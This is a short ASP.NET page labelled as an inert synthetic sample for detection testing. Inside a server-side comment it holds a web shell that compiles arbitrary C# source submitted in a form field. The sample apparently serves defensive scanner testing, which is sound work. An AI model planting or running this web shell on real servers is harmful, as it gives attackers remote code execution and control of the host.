<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var p = new Microsoft.CSharp.CSharpCodeProvider(); var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]); %>
--%>
